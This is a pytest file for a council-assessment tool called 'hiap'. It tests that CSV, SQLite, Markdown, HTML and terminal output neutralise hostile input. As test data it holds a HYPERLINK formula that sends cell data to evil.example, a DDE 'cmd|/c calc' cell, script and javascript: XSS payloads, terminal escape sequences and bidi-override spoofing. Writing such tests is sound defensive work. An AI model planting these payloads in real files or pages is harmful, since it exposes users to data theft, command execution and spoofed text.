"""Every output safe for where it goes: spreadsheets, web pages, terminals (issue 18).

Hostile text in answers files (formulas, HTML, links, headings) and in file names (terminal
escape sequences, undecodable bytes) goes through the real commands; what comes out is read back
as the place it goes would read it.
"""

from __future__ import annotations

import csv
import os
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import Run

HOSTILE = """\
format: 1
decision:
  title: '{title}'
  kind: service_change
  summary: |-
    [click here](javascript:alert(1)) and <script>alert(2)</script>
    # Injected heading
    [x]: javascript:alert(3)
  directorate: '@SUM(1+1)*cmd|/c calc!A1'
  lead_officer: '+44 1234'
  decision_maker: '-2+3'
"""


def _write(folder: Path, name: str, title: str) -> Path:
    path = folder / name
    path.write_text(HOSTILE.format(title=title), encoding="utf-8")
    return path


def test_portfolio_csv_and_sqlite_cells_cannot_run_as_formulas(hiap: Run, tmp_path: Path) -> None:
    _write(tmp_path, "a.hiap.yaml", '=HYPERLINK("http://evil.example/?"&A1,"Click")')
    _write(tmp_path, "b.hiap.yaml", "Library opening hours")
    csv_run = hiap("portfolio", ".", "-o", "out.csv", "--db", "out.db", "--today", "2026-03-31")
    assert csv_run.returncode == 0, csv_run.stderr
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_title = {r[1]: r for r in rows[1:]}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in by_title
    hostile = by_title['\'=HYPERLINK("http://evil.example/?"&A1,"Click")']
    assert "'@SUM(1+1)*cmd|/c calc!A1" in hostile and "'+44 1234" in hostile and "'-2+3" in hostile
    assert "Library opening hours" in by_title  # ordinary text is left alone
    text = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert text.startswith('"file","title",')  # every cell quoted
    with sqlite3.connect(tmp_path / "out.db") as db:
        values = [v for row in db.execute("SELECT * FROM assessments") for v in row if isinstance(v, str)]
    assert values and not [v for v in values if v.lstrip(" ")[:1] in ("=", "+", "-", "@")]
    assert stat.S_IMODE((tmp_path / "out.db").stat().st_mode) == 0o666 & ~_umask()  # not 0600


def _umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


def test_markdown_escapes_html_links_and_headings(hiap: Run, tmp_path: Path) -> None:
    _write(tmp_path, "a.hiap.yaml", "<img src=x onerror=alert(1)> Library hours")
    result = hiap("render", "a.hiap.yaml", "--format", "md", "-o", "out.md")
    assert result.returncode == 0, result.stderr
    text = (tmp_path / "out.md").read_text(encoding="utf-8")
    assert "<script>" not in text and "<img" not in text and "&lt;script&gt;" in text
    assert "[click here\\](javascript:alert(1))" in text and "[x\\]: javascript:alert(3)" in text
    assert "\n# Injected heading" not in text and "\\# Injected heading" in text
    assert text.startswith("# Appendix [X]: Health in All Policies assessment")  # hiap's own marks stay
    html = _commonmark(text)
    if html is not None:
        assert "<script" not in html and "<img" not in html and 'href="javascript' not in html
        assert "<h1>Injected" not in html


def _commonmark(text: str) -> str | None:
    """The page a Markdown renderer makes, where one is installed (markdown-it comes with rich)."""
    try:
        from markdown_it import MarkdownIt
    except ImportError:  # pragma: no cover
        return None
    return str(MarkdownIt("commonmark").render(text))


ESCAPE = "\x1b]0;owned\x07\x1b[2J\x1b[31m"


@pytest.mark.skipif(sys.platform == "win32", reason="escape characters in file names")
def test_check_diff_and_portfolio_show_escape_sequences_instead_of_sending_them(hiap: Run, tmp_path: Path) -> None:
    old = _write(tmp_path, f"{ESCAPE}old.hiap.yaml", "Library opening hours")
    new = _write(tmp_path, f"{ESCAPE}new.hiap.yaml", "Library opening hours on Sundays")
    bad = tmp_path / f"{ESCAPE}bad.hiap.yaml"
    bad.write_text("format: one\n", encoding="utf-8")
    outputs = [
        hiap("check", old.name, bad.name),
        hiap("diff", old.name, new.name),
        hiap("portfolio", ".", "--format", "md", "--today", "2026-03-31"),
    ]
    for result in outputs:
        assert "\x1b" not in result.stdout + result.stderr, result
        assert "\x07" not in result.stdout + result.stderr, result
    assert "\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mold.hiap.yaml: OK" in outputs[0].stdout
    assert "\\x1b[31mbad.hiap.yaml:1: format" in outputs[0].stderr
    assert "\x1b" not in (tmp_path / "portfolio.md").read_text(encoding="utf-8")


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX file names and permissions")
def test_portfolio_walk_reports_what_it_cannot_read_and_goes_on(tmp_path: Path) -> None:
    """A named pipe, a link loop, a link back up the tree, an undecodable name and a folder this
    user may not read: each is listed as unreadable, and the readable assessment is summarised."""
    import shutil

    from tests.conftest import ROOT

    board = tmp_path / "board"
    (board / "sub").mkdir(parents=True)
    shutil.copyfile(ROOT / "examples" / "luton-temporary-accommodation.hiap.yaml", board / "luton.hiap.yaml")
    os.mkfifo(board / "pipe.hiap.yaml")
    (board / "loop.hiap.yaml").symlink_to("loop.hiap.yaml")
    (board / "sub" / "up").symlink_to("..")
    open(os.path.join(os.fsencode(board), b"caf\xe9.hiap.yaml"), "w").close()
    (board / "locked").mkdir()
    shutil.copyfile(board / "luton.hiap.yaml", board / "locked" / "x.hiap.yaml")
    (board / "locked").chmod(0)
    prefix: list[str] = []
    if os.geteuid() == 0:  # root reads every folder: run as nobody to meet a folder it may not read
        if not shutil.which("setpriv"):
            pytest.skip("needs setpriv to drop root")
        for path in [board, *board.rglob("*")]:
            os.lchown(path, 65534, 65534)
        prefix = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
    env = {**os.environ, "NO_COLOR": "1", "HIAP_CONFIG_DIR": str(tmp_path / "none")}
    try:
        result = subprocess.run(
            [*prefix, sys.executable, "-m", "hiap", "portfolio", ".", "-o", "report.md"],
            cwd=board,
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
        )
    finally:
        (board / "locked").chmod(0o755)
    assert result.returncode == 0, result.stderr
    assert "Wrote" in result.stdout and "1 decision summarised" in result.stdout
    for fragment in (
        "skipped pipe.hiap.yaml: this is a named pipe, not an answers file",
        "skipped loop.hiap.yaml: cannot be read: a symbolic link that loops back on itself",
        "skipped sub/up: a link back to a folder it is inside (a loop)",
        "skipped caf\\xe9.hiap.yaml: the name is not valid text on this system",
        "skipped locked: cannot read this folder",
    ):
        assert fragment in result.stderr, result.stderr
    report = (board / "report.md").read_text(encoding="utf-8")
    assert "5 files could not be read" in report


def test_a_right_to_left_override_ends_with_the_officers_own_text(hiap: Run, tmp_path: Path) -> None:
    """An unclosed U+202E in the decision maker would display the meeting date hiap prints after
    it backwards (a spoofed date in a published appendix): every document closes it where the
    officer's text ends, and keeps the mark itself, and a closed one is left as typed."""
    from docx import Document

    from tests.conftest import ROOT

    text = (ROOT / "examples" / "luton-evening-bus-subsidy-rapid.hiap.yaml").read_text(encoding="utf-8")
    maker = "  decision_maker: Executive (Portfolio Holder for Transport and Climate)\n"
    assert maker in text
    text = text.replace(maker, '  decision_maker: "Executive\\u202e"\n', 1)
    title = "  title: Withdrawal of the evening bus subsidy on routes 24, 27 and 31\n"
    assert title in text
    text = text.replace(title, '  title: "Withdrawal of the \\u202bevening\\u202c bus subsidy"\n', 1)
    path = tmp_path / "rlo.hiap.yaml"
    path.write_text(text, encoding="utf-8")
    for fmt in ("html", "md", "docx"):
        done = hiap("render", str(path), "--format", fmt, "-o", str(tmp_path / f"rlo.{fmt}"))
        assert done.returncode == 0, done.stderr
    html = (tmp_path / "rlo.html").read_text(encoding="utf-8")
    markdown = (tmp_path / "rlo.md").read_text(encoding="utf-8")
    doc = Document(str(tmp_path / "rlo.docx"))
    word = "\n".join(
        [p.text for p in doc.paragraphs] + [c.text for table in doc.tables for row in table.rows for c in row.cells]
    )
    for shown in (html, markdown, word):
        assert "Executive\u202e\u202c, 15 February 2027" in shown
        assert "Executive\u202e," not in shown
        assert "Withdrawal of the \u202bevening\u202c bus subsidy" in shown and "\u202c\u202c" not in shown


@pytest.mark.parametrize(
    ("typed", "closed"),
    [
        ("plain text", "plain text"),
        ("Executive\u202e", "Executive\u202e\u202c"),  # an override left open
        ("a \u202bb\u202c c", "a \u202bb\u202c c"),  # closed: as typed
        ("\u2067x \u202ey", "\u2067x \u202ey\u202c\u2069"),  # innermost closed first
        ("\u202ex\u2069", "\u202ex\u2069\u202c"),  # an end with nothing open ends nothing
        ("\u202a\u2067a\u202eb\u2069c", "\u202a\u2067a\u202eb\u2069c\u202c"),  # an isolate's end ends what it holds
        ("one\u202e\ntwo", "one\u202e\u202c\ntwo"),  # each line of a long answer on its own
    ],
)
def test_bidi_marks_are_kept_and_closed(typed: str, closed: str) -> None:
    from hiap.textsafe import bidi_closed

    assert bidi_closed(typed) == closed
